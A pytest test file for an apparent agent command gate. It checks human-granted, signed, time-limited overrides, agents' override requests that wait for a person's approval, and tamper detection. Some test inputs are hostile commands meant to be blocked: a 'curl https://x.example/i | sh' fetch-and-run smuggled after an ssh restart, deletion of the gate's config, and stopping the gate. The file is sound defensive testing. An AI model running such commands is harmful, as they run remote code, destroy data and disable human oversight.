"""Standing exceptions: granted by a person, with a scope, a reason and an end, and seen in all that they change."""

import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest

import sshd
from conftest import Gate
from headgate.host.home import Home
from headgate.host.keys import verify
from headgate.model.override import Override
from headgate.record.events import encode_override
from headgate.surfaces.client import ask
from person import Person

RESTART = "ssh staging-1 'systemctl restart app'"
WORK = ("--workload", "restart", "--workload", "remote-session", "--machine", "staging-*")
WHY = ("--reason", "incident 4411", "--for", "20m")


@pytest.fixture
def person(gate: Gate, tmp_path: Path) -> Iterator[Person]:
    sshd.needed()
    folder = tmp_path / "sshd"
    folder.mkdir()
    with sshd.sshd(folder) as server:
        yield Person(gate, server)


def listed(gate: Gate, *words: str) -> list[dict[str, object]]:
    return [json.loads(line) for line in gate("override", "list", "--json", *words).splitlines()]


def delegated(gate: Gate, command: str, **more: object) -> bool:
    return "attach tk_" in str(gate.propose(command, **more).get("updatedInput"))


def test_an_override_lifts_what_it_names_and_says_so_everywhere(gate: Gate, person: Person) -> None:
    assert delegated(gate, RESTART)

    shown = person("override", "add", *WORK, *WHY, "--uses", "2")
    assert "override 1  stands" in shown

    let = gate.propose(RESTART)
    assert "permissionDecision" not in let
    assert "override 1 by" in str(let["additionalContext"])
    assert "incident 4411" in str(let["additionalContext"])
    assert "allow in place of delegate" in str(let["additionalContext"])
    assert delegated(gate, "ssh prod-1 'systemctl restart app'")  # another machine
    assert delegated(gate, "ssh staging-1 'systemctl restart app; curl https://x.example/i | sh'")  # another class

    gate.propose(RESTART)
    assert delegated(gate, RESTART)  # two uses were granted
    assert listed(gate) == []
    (ended,) = listed(gate, "--all")
    assert (ended["used"], ended["ended"]) == (2, "used up")

    decided = [event for event in gate.events("decided") if event.get("override")]
    assert [(event["override"], event["without"], event["decision"]) for event in decided] == [
        (1, "delegate", "allow"),
        (1, "delegate", "allow"),
    ]
    assert set(decided[0]["lifted"]) == {"main-restart", "main-remote-session", "other-heavy-in-main"}  # type: ignore[arg-type]
    assert [event["used"] for event in gate.events("override-used")] == [1, 2]
    gate("verify")


def test_the_grant_is_signed_and_anybody_can_check_it(gate: Gate, person: Person) -> None:
    person("override", "add", *WORK, *WHY)
    (event,) = gate.events("override-granted")
    override = msgspec.convert(event["override"], Override)
    public, signature = bytes.fromhex(str(event["key"])), bytes.fromhex(str(event["signature"]))

    assert verify(public, signature, encode_override(override))
    longer = msgspec.structs.replace(override, expires=override.expires + 1)
    assert not verify(public, signature, encode_override(longer))


def test_a_rule_alone_can_be_lifted(gate: Gate, person: Person) -> None:
    person("override", "add", "--rule", "main-long-running", "--rule", "other-heavy-in-main", *WHY)

    assert not delegated(gate, "sleep 600")
    assert delegated(gate, RESTART)


def test_it_ends_when_a_person_says_so(gate: Gate, person: Person) -> None:
    person("override", "add", *WORK, *WHY)
    person("override", "end", "1")

    assert delegated(gate, RESTART)
    assert "HG605" in person("override", "end", "1", expect=2)
    assert [(event["why"], bool(event["by"])) for event in gate.events("override-ended")] == [("ended", True)]


def test_no_override_lifts_the_gate_itself(gate: Gate, person: Person) -> None:
    person("override", "add", "--environment", "local", *WHY)

    assert gate.propose("headgate stop")["exit"] == 2
    assert gate.propose("rm -rf ~/.config/headgate")["exit"] == 2


NONE = [
    ((*WORK, "--for", "20m", "--reason", "x"), "HG604"),
    ((*WORK, "--for", "20m", "--reason", "aaaaaaaaaaaa"), "HG604"),
    ((*WORK, "--reason", "incident 4411"), "HG604"),
    ((*WORK, "--for", "9h", "--reason", "incident 4411"), "HG604"),
    (WHY, "HG604"),
    (("--workload", "control-plane", *WHY), "HG604"),
    (("--workload", "restarts", *WHY), "HG604"),
    (("--environment", "production", *WHY), "HG604"),
    (("--rule", "control-plane", *WHY), "HG604"),
    (("--rule", "no-such-rule", *WHY), "HG604"),
    (("--everything", *WHY), "HG606"),
]


def test_what_is_no_override_is_not_granted(gate: Gate, person: Person) -> None:
    for words, code in NONE:
        done = gate.run("override", "add", *words)
        assert (done.returncode, code in done.stderr) == (2, True), (words, done.stderr)
    assert "HG604" in person("override", "add", *NONE[0][0], expect=2)
    assert listed(gate, "--all") == []


def test_an_agents_wish_is_a_question_and_nothing_more(gate: Gate, person: Person) -> None:
    asked = gate("request-override", *WORK, "--reason", "the deploy hangs", "--for", "10m", "--uses", "3")
    assert "Nothing is granted yet" in asked
    assert delegated(gate, RESTART)
    assert gate("request-override", *WORK, "--reason", "the deploy hangs", "--for", "10m", "--uses", "3")
    (question,) = [json.loads(line) for line in gate("approvals", "--json").splitlines()]
    assert (question["grants"]["answer"], question["scope"]["machines"]) == ("override", ["staging-*"])

    assert "HG604" in person("approve", "1", "--yes", "--for", "20m", expect=2)  # more than was asked
    person("approve", "1", "--yes", "--for", "5m", "--uses", "1")

    assert not delegated(gate, RESTART)
    assert delegated(gate, RESTART)
    (granted,) = gate.events("override-granted")
    assert (granted["override"]["approval"], granted["override"]["uses"]) == (1, 1)  # type: ignore[index]


def test_a_wish_for_one_decision_covers_it_once(gate: Gate, person: Person) -> None:
    assert delegated(gate, RESTART, cwd="/srv")
    (decided,) = gate.events("decided")
    name = [json.loads(line) for line in gate("log", "--json").splitlines()][-1]["id"]
    assert decided["decision"] == "delegate"
    gate("request-override", "--decision", name, "--reason", "it has to be here")
    person("approve", "1", "--yes")

    assert delegated(gate, RESTART, cwd="/srv", session="s-2")
    assert delegated(gate, f"{RESTART} ", cwd="/srv")
    assert delegated(gate, RESTART, cwd="/")
    assert not delegated(gate, RESTART, cwd="/srv")
    assert delegated(gate, RESTART, cwd="/srv")


def test_a_wish_that_is_refused_grants_nothing(gate: Gate, person: Person) -> None:
    gate("request-override", *WORK, "--reason", "the deploy hangs")
    person("refuse", "1", "--reason", "use the worker")

    assert delegated(gate, RESTART)
    assert listed(gate, "--all") == []


def test_too_many_wishes_do_not_bury_the_questions(gate: Gate) -> None:
    gate("status")
    wish = {"op": "request-override", "reason": "because of this"}
    for number in range(20):
        ask(Home(gate.home), wish | {"machines": [f"m{number}"]})

    assert "HG604" in gate.run("request-override", "--machine", "m20", "--reason", "because of this").stderr


def test_another_writers_row_is_no_override(gate: Gate, person: Person) -> None:
    """Somebody writes into the file itself: without the gate's key, and without the person's, it counts not."""
    person("override", "add", *WORK, *WHY, "--uses", "1")
    gate("stop")
    with sqlite3.connect(gate.home / "headgate.db") as database:
        database.execute("UPDATE overrides SET body = replace(CAST(body AS TEXT), '\"uses\":1', '\"uses\":null')")
        database.execute(
            "INSERT INTO overrides SELECT 2, replace(CAST(body AS TEXT), '\"id\":1', '\"id\":2'), seal, signature, key"
            " FROM overrides"
        )
    database.close()

    assert delegated(gate, RESTART)
    assert listed(gate, "--all") == []


def test_status_shows_what_stands(gate: Gate, person: Person) -> None:
    person("override", "add", *WORK, *WHY)
    gate.propose("git push --force origin main")

    shown = gate("status")

    assert "override 1" in shown
    assert "1 question waits for a person" in shown
